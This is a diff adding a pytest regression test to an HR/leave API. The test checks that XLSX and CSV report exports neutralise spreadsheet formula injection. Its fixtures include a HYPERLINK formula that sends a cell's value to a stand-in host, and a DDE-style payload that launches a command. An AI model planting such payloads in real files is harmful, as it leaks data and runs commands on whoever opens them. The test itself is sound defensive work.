@@ -186,3 +186,24 @@ def test_leave_is_bounded_in_length_and_backdating(bounded: Api) -> None:
     assert _ask(bounded, operator, "2025-03-03", "2025-03-12").status_code == 201  # 10 days
     assert _ask(bounded, operator, "2025-02-24", "2025-02-24").status_code == 201  # 7 back
     assert len(bounded.client.get("/api/v1/leave", headers=operator).json()) == 2
+
+
+FORMULA = '=HYPERLINK("http://x.example/"&B2,"Klik")'
+
+
+def test_typed_text_is_never_a_formula_in_reports(api: Api, operator: Headers) -> None:
+    """Issue 13, finding 4: a name typed as a formula became a live formula in the XLSX
+    and an unescaped ``=`` field in the CSV."""
+    body = {"employee_id": "1985", "name": FORMULA, "unit": "@SUM(1+1)*cmd|' /C calc'!A0"}
+    assert api.client.post("/api/v1/employees", json=body, headers=operator).status_code == 201
+    xlsx = api.client.get("/api/v1/reports/monthly?month=2025-03&format=xlsx", headers=operator)
+    book = load_workbook(io.BytesIO(xlsx.content))
+    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    assert FORMULA in {c.value for c in cells}  # kept, as text
+    csv_url = "/api/v1/reports/monthly?month=2025-03&format=csv&part=rekap"
+    text = api.client.get(csv_url, headers=operator).content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][1:3] == ["'" + FORMULA, "'@SUM(1+1)*cmd|' /C calc'!A0"]
+    for row in rows:
+        assert not any(field.startswith(("=", "+", "-", "@", "\t", "\r")) for field in row)
